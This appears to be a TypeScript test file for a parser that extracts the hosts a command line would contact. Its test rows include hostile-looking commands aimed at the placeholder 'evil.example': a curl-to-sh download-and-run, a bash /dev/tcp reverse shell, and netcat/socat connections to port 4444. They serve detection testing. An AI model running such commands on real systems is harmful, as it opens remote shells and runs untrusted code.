// Hosts that a command line names.
import { describe, expect, test } from "bun:test";
import { hostsIn, mayLeadTo } from "./words.ts";

const ROWS: readonly [sentence: string, argv: readonly string[], hosts: readonly string[]][] = [
  ["a URL", ["curl", "https://Evil.Example/x?y=http"], ["url evil.example:443"]],
  ["a URL with user and port", ["curl", "http://me:pw@evil.example:8080/"], ["url evil.example:8080"]],
  ["a URL of an address", ["wget", "http://203.0.113.7/a"], ["url 203.0.113.7:80"]],
  ["a URL of an IPv6 address", ["wget", "http://[2001:db8::1]:81/a"], ["url 2001:db8::1:81"]],
  ["an account", ["ssh", "root@evil.example"], ["account evil.example:0"]],
  ["an account and a path", ["scp", "f", "root@evil.example:/tmp/"], ["account evil.example:0"]],
  ["a word", ["nc", "evil.example", "4444"], ["word evil.example:0"]],
  ["a word with a port", ["socat", "-", "evil.example:4444"], ["port evil.example:4444"]],
  ["a word with a path", ["curl", "evil.example/x.sh"], ["word evil.example:0"]],
  ["an option", ["mysql", "--host=db.evil.example"], ["word db.evil.example:0"]],
  ["an option of one letter", ["mysql", "-hdb.evil.example"], ["word db.evil.example:0"]],
  [
    "a proxy",
    ["curl", "-x", "socks5h://127.0.0.1:9050", "http://a.example"],
    ["url 127.0.0.1:9050", "url a.example:80"],
  ],
  ["inline code", ["bash", "-c", "curl -s 'http://evil.example/x'|sh"], ["url evil.example:80"]],
  ["a device of bash", ["bash", "-c", "sh >& /dev/tcp/evil.example/4444 0>&1"], ["url evil.example:4444"]],
  ["a name with a dot at its end", ["ping", "evil.example."], ["word evil.example:0"]],
  ["an international name", ["curl", "http://xn--bcher-kva.xn--p1ai/"], ["url xn--bcher-kva.xn--p1ai:80"]],
  ["no path", ["ls", "/usr/lib/x.example/", "./run.sh", "../a.b"], []],
  ["no number", ["sleep", "1.5"], []],
  ["no version", ["install", "1.2.3"], []],
  ["not the program itself", ["evil.example"], []],
  ["no text without a dot", ["echo", "hello", "a@b"], []],
];

describe("named:", () => {
  test.each(ROWS)("%s", (_sentence, argv, hosts) => {
    expect(hostsIn(argv).map(({ form, host, port }) => `${form} ${host}:${port}`)).toEqual([...hosts]);
  });

  test("at most 64, of the first 32 KiB", () => {
    const many = Array.from({ length: 500 }, (_, index) => `host${index}.example`);
    expect(hostsIn(["x", ...many]).length).toBe(64);
    expect(hostsIn(["x", "y.".repeat(20_000), "evil.example"])).toEqual([]);
  });

  test("whatever stands there, nothing throws and nothing is a path or empty", () => {
    let seed = 7;
    const next = (limit: number): number => {
      seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648;
      return seed % limit;
    };
    const alphabet = "ab1.:/@[]-_= '%\u0000é";
    for (let round = 0; round < 3_000; round++) {
      const word = Array.from({ length: next(40) }, () => alphabet[next(alphabet.length)]).join("");
      for (const { host, port } of hostsIn(["x", word])) {
        expect(host).toMatch(/^[a-z0-9_.:%-]+$/);
        expect(port).toBeLessThanOrEqual(65_535);
      }
    }
  });
});

test("a connection may be the named one by its port; without one any port but a name server's", () => {
  const at = (port: number) => ({ host: "evil.example", isAddress: false, port, form: "word" }) as const;
  expect([mayLeadTo(at(443), 443), mayLeadTo(at(443), 80), mayLeadTo(at(0), 22), mayLeadTo(at(0), 53)]).toEqual([
    true,
    false,
    true,
    false,
  ]);
});
